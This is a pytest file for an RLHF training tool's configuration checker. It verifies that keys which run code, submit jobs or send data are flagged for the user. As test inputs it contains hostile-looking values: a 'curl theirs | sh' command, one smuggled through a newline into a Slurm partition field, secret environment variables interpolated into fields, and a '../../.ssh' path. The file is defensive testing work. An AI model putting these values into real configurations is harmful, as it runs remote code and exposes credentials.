"""Every key of a frozen configuration that runs, submits or sends is listed; every key is classified."""

from __future__ import annotations

import typing
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from pydantic import BaseModel

from rlhf_cli.config.conf_folders import shipped_dir
from rlhf_cli.config.imported_code import ASKED, asked_of, imported_code
from rlhf_cli.config.schema.experiment import Experiment, arms_of
from rlhf_cli.config.schema.trainer_sections import PpoArgs
from rlhf_cli.config.trl_args import RESERVED_ARGS, fields_of
from rlhf_cli.plan.prepare import prepare
from rlhf_cli.tables.trl_trainers import TRAINERS
from rlhf_cli.text.json_values import JsonTree

_HARMLESS = {
    "": "primary.by primary.otherwise kl.where kl.controller critic.init critic.share truncation.policy "
    "truncation.mode truncation.also profile warn "
    "guards.no_signal stop.when stop.*.when expect.metric expect.*.metric expect.at "
    "expect.*.at sweep.objective sweep.sampler sweep.prune sampling.keep_groups.by",
    "data.": "world args path subset split revision rename select transcripts prompt overlong_prompts "
    "mix.*.world mix.*.args mix.*.path mix.*.subset mix.*.split mix.*.revision mix.*.rename mix.*.select "
    "eval.world eval.args eval.path eval.subset eval.split eval.revision eval.rename eval.select keep.column sort "
    "mix.*.keep.column mix.*.sort eval.keep.column eval.sort",
    "data.eval.*.": "world args path subset split revision rename select keep.column sort",
    "model.": "path revision dtype tokenizer chat_template response_template quantize lora.target_modules "
    "build.warm_start.worlds",
    "rewards.*.": "model environment weight.shape offset normalize gate.by gate.otherwise gate.*.by gate.*.otherwise "
    "eager trial on_error timeout_s isolate spread dtype device with_eos when per",
    "teacher.": "path revision dtype",
    "reward_model.": "margin.column margin.chosen margin.rejected margin.transform margin.on_bad on_bad_pair",
    "launch.": "processes device precision strategy offload rollout must_save_by hang_timeout_s",
    "track.": "tracker project tags notes",
    "run.": "name resume resume_weights_only keep_completions.last",
    "trainer.": "name trl dense generation baseline passes",
    "trainer.args.": "activation_checkpointing_kwargs cache_implementation chat_template_kwargs chat_template_path "
    "dataset_kwargs dataset_text_field debug eos_token gradient_checkpointing_kwargs include_for_metrics "
    "label_names  length_column_name liger_kernel_config log_level loss_type lr_scheduler_kwargs "
    "metric_for_best_model optim  optim_target_modules pad_to_multiple_of pad_token project reward_clip_range "
    "teacher_prompt_template uld_token_merge_strategy distillation_objective "
    "shuffle_by  transformers_continuous_batching_config vllm_structured_outputs_regex whiten_advantages",
}
HARMLESS = frozenset(f"{group}{name}" for group, names in _HARMLESS.items() for name in names.split())
"""Keys that run, submit and send nothing, and all keys below them. `*` is a name of the user's or a place in a list."""
_SWITCHES = """
activation_checkpointing activation_offloading assistant_only_loss auto_find_batch_size average_tokens_across_devices
batch_eval_metrics bf16_full_eval cast_lm_head_to_fp32 completion_only_loss dataloader_drop_last dataloader_in_order
dataloader_persistent_workers dataloader_pin_memory ddp_broadcast_buffers ddp_find_unused_parameters ddp_static_graph
disable_dropout disable_tqdm do_eval do_predict do_train ds3_gather_for_generation enable_jit_checkpoint
eval_do_concat_batches eval_on_start eval_packing eval_use_gather_object fp16_full_eval full_determinism
generate_during_eval gradient_checkpointing greater_is_better ignore_data_skip include_num_input_tokens_seen
is_encoder_decoder load_best_model_at_end log_completions log_multimodal log_on_each_node log_unique_prompts
logging_first_step logging_nan_inf_filter normalize_advantages packing padding_free precompute_ref_log_probs
prediction_loss_only remove_unused_columns restore_callback_states_from_checkpoint save_on_each_node save_only_model
scale_rewards shuffle_dataset skip_memory_metrics sync_ref_model tf32 torch_compile use_adaptive_entropy
use_bias_correction_kl use_cache use_liger_kernel use_weighting vllm_enable_sleep_mode
vllm_importance_sampling_correction dataloader_multiprocessing_context eval_strategy f_divergence_type
importance_sampling_level log_level_replica logging_strategy loss_weights lr_scheduler_type packing_strategy
distillation_add_tail distillation_mode generate_from_teacher loss_add_tail reverse_kl_top_1_mode seq_kd
teacher_model_kind uld_skip_student_eos uld_skip_teacher_eos uld_use_hybrid_loss use_extended_uld use_teacher_server
use_uld_loss wandb_log_unique_prompts
save_strategy torch_compile_mode train_sampling_strategy truncation_mode vllm_importance_sampling_mode vllm_model_impl
"""
SWITCHES = _SWITCHES.split()
"""TRL's arguments that are switches or take one of a few words, and that run, submit and send nothing."""
BY_VALUE = {f"trainer.args.{name}" for name in SWITCHES} | {
    "aggregate",
    "advantages.fn",
    "advantages.args",
    "track.mode",
    "run.root",
    "rewards.*.fn",
    "rewards.*.args",
}
"""Keys whose value decides; the tests below try both kinds of value."""


def leaves_of(kind: object, path: tuple[str, ...] = ()) -> Iterator[str]:
    """Yield the key of every value of the schema that can hold a text, a switch or anything; numbers do nothing."""
    for arm in arms_of(kind) or [kind]:
        origin, inner = typing.get_origin(arm), typing.get_args(arm)
        if isinstance(arm, type) and issubclass(arm, BaseModel):
            for name, field in arm.model_fields.items():
                yield from leaves_of(field.annotation, (*path, field.alias or name))
        elif origin in (list, dict) and any(_is_section(arm) for arm in arms_of(inner[-1])):
            yield from leaves_of(inner[-1], (*path, "*"))
        elif arm not in (int, float, type(None)) and not (origin is tuple and set(inner) <= {int, float}):
            yield ".".join(path)


def _is_section(kind: object) -> bool:
    return isinstance(kind, type) and issubclass(kind, BaseModel)


def keys() -> set[str]:
    found = set(leaves_of(Experiment)) - {"trainer.args"}
    found |= {f"trainer.args.{name}" for name in leaves_of(PpoArgs)}
    for trainer in TRAINERS:
        for name, field in fields_of(trainer).items():
            numbers = {"int", "float", "None"} >= set(field.annotation.replace("|", " ").split())
            if name not in RESERVED_ARGS and (field.choices or not numbers):
                found.add(f"trainer.args.{name}")
    return found


def classes_of(key: str) -> list[str]:
    parts = key.split(".")
    above = {".".join(parts[:depth]) for depth in range(1, len(parts) + 1)}
    tables = {"asked": ASKED, "harmless": HARMLESS, "by value": BY_VALUE}
    return [name for name, table in tables.items() if above & set(table)]


def test_every_key_is_classified_once() -> None:
    """The author of a new key adds it to one of the tables. A row for a renamed key would hide a later key of it."""
    found = keys()
    assert len(found) > 150
    assert not any(map(classes_of, ("track.new", "new", "trainer.args.new", "launch.new", "rewards.*.new")))
    wrong = {key: classes for key in sorted(found) if len(classes := classes_of(key)) != 1}
    assert not wrong, f"put each into ASKED of config/imported_code.py, or into HARMLESS here: {wrong}"
    known = {
        ".".join(parts[:depth]) for parts in (key.split(".") for key in found) for depth in range(1, len(parts) + 1)
    }
    known |= {"launch.slurm", "launch.vllm", "trainer.args.vllm_server_port", "trainer.args.model_init_kwargs"}
    of_any_name = ("stop.", "expect.", "rewards.*.gate")
    assert {key for key in (*HARMLESS, *ASKED, *BY_VALUE) if not key.startswith(of_any_name)} - known == set()


RUNS = "rlhf_cli.rewards.code:code_passes_tests"
SERVER = "rlhf_cli.rewards.server:RewardServer"


@pytest.mark.parametrize(
    "config",
    [
        {"rewards": {"z": {"fn": fn}}}
        for fn in (
            "./evil.py:f",
            "rlhf_cli.rewards.py:f",
            "rlhf_cli.rewards.x/evil.py:f",
            "rlhf_cli.rewards.code:run_code",
            "rlhf_cli.rewards.stack.reward_functions:import_function",
            " rlhf_cli.rewards.length:length_ramp",
            "subprocess:run",
            ["./evil.py:f"],
        )
    ]
    + [
        {"rewards": {"z": {"fn": RUNS, "args": {"isolation": "limits"}}}},
        {"rewards": {"z": {"fn": RUNS, "args": {"isolation": ["limits"], "source": "x"}}}},
        {"rewards": {"z": {"fn": SERVER, "args": {"url": "http://theirs"}}}},
        {"rewards": {"z": {"fn": SERVER, "args": {"url": ["http://theirs"]}}}},
        {"rewards": {"z": {"fn": "rlhf_cli.rewards.judge:Judge", "args": {"cache_dir": "/home/me"}}}},
        {"rewards": {"z": {"fn": "rlhf_cli.rewards.match:regex", "args": {"pattern": "${oc.env:HF_TOKEN}"}}}},
        {"rewards": [{"fn": "rlhf_cli.rewards.match:regex"}]},
        {"aggregate": "/x/agg.py:total"},
        {"trainer": {"class": "/x/mine.py:Mine"}},
        {"trainer": {"args": {"push_to_hub": True}}},
        {"trainer": {"args": {"hub_model_id": "theirs/model"}}},
        {"trainer": {"args": {"log_completions_hub_repo": "theirs/rows"}}},
        {"trainer": {"args": {"vllm_server_base_url": "http://theirs"}}},
        {"trainer": {"args": {"model_init_kwargs": {"attn_implementation": "theirs/kernel"}}}},
        {"model": {"trust_remote_code": "yes"}},
        {"launch": {"slurm": {"setup": ["curl theirs | sh"]}}},
        {"launch": {"slurm": {"extra": {"wrap": "curl theirs | sh"}}}},
        {"launch": {"slurm": {"partition": "gpu\ncurl theirs | sh"}}},
        {"launch": {"slurm": {"max_parallel": 16}}},
        {"launch": {"vllm": {"args": {"middleware": "theirs.module"}}}},
        {"launch": {"vllm": {"args": {"port": 80}}}},
        {"launch": {"accelerate_config": "/x/accelerate.yaml"}},
        {"track": {"mode": "online"}},
        {"track": {"entity": "theirs"}},
        {"track": {"notes": "${oc.env:AWS_SECRET_ACCESS_KEY}"}},
        {"run": {"root": "/home/me"}},
        {"run": {"root": "../../.ssh"}},
        {"sweep": {"space": {"rewards.z.fn": "choice(./evil.py:f)"}}},
    ],
    ids=str,
)
def test_keys_that_are_listed(config: JsonTree) -> None:
    assert asked_of(config)


def test_a_model_with_code_of_its_own_is_named() -> None:
    model: JsonTree = {"path": "org/model", "trust_remote_code": True}
    assert asked_of({"model": model}) == ["model.path: org/model", "model.trust_remote_code: true"]


@pytest.mark.parametrize(
    "config",
    [
        {"aggregate": "normalize_then_sum"},
        {"rewards": {"z": {"fn": RUNS, "args": {"isolation": "auto", "timeout_s": 5.0}}}},
        {"rewards": {"a.fn": {}, "fn": {"weight": 1.0}}},
        {"track": {"mode": "offline", "notes": "\\${oc.decode:1} and $HOME"}},
        {"run": {"root": "runs/mine"}},
        {"launch": {"slurm": None, "vllm": {"args": {}}}},
        {"model": {"path": "org/model", "trust_remote_code": False}},
        {"seed": 3},
    ],
    ids=str,
)
def test_keys_that_are_not_listed(config: JsonTree) -> None:
    assert asked_of(config) == []


@pytest.mark.parametrize("file", sorted((shipped_dir() / "reward").glob("*.yaml")), ids=lambda file: file.stem)
def test_a_shipped_reward_asks_only_for_a_server(file: typing.Any) -> None:
    reward = yaml.safe_load(file.read_text())
    asked = asked_of({"rewards": {"z": reward}})
    assert [line.partition(":")[0] for line in asked] == ["rewards.z.args.url"] * ("url" in (reward["args"] or {}))


@pytest.mark.parametrize("name", ["quickstart", "toy_ppo", "toy_dpo", "toy_kto", "toy_reward", "toy_sft", "dapo"])
def test_an_experiment_with_built_in_rewards_asks_for_nothing(name: str) -> None:
    words = ["model.path=org/model"] if name == "dapo" else []
    tree = prepare([f"+exp={name}", "track=none", *words]).experiment.model_dump(mode="json")
    assert asked_of(tree) == []


def test_the_files_of_every_function_that_a_key_names_are_noted(place: Path) -> None:
    """The walk finds each `fn`, `aggregate` and `class`; their files are hashed, and a change is refused on resume."""
    named = {key for key in keys() if key.rpartition(".")[2] in ("fn", "class", "aggregate")}
    of_rollouts = {"tools.*.fn", "environment.class", "environment.*.class", "rollout.fn"}
    assert named == {"rewards.*.fn", "advantages.fn", "aggregate", "trainer.class"} | of_rollouts
    for name in "abcefg":
        (place / f"{name}.py").write_text("def f(totals): ...\n")
    (place / "d.py").write_text("class f: ...\n")
    of_learning = [
        "rewards.correct.fn=./a.py:f",
        "advantages.fn=./b.py:f",
        "aggregate=./c.py:f",
        "trainer.class=./d.py:f",
    ]
    for words, files in (
        (["~rewards.correct.args", *of_learning], "abcd"),
        (["tools.x.fn=./e.py:f", "environment.class=./f.py:f"], "ef"),
        (["environment.one.class=./e.py:f", "environment.two.class=./f.py:f"], "ef"),
        (["rollout.fn=./g.py:f"], "g"),
    ):
        experiment = prepare(["+exp=quickstart", *words]).experiment
        assert sorted(file.name for file in imported_code(experiment).values()) == [f"{name}.py" for name in files]
        asked = {line.partition(":")[0] for line in asked_of(experiment.model_dump(mode="json"))}
        assert asked >= {word.partition("=")[0] for word in words if "=" in word}
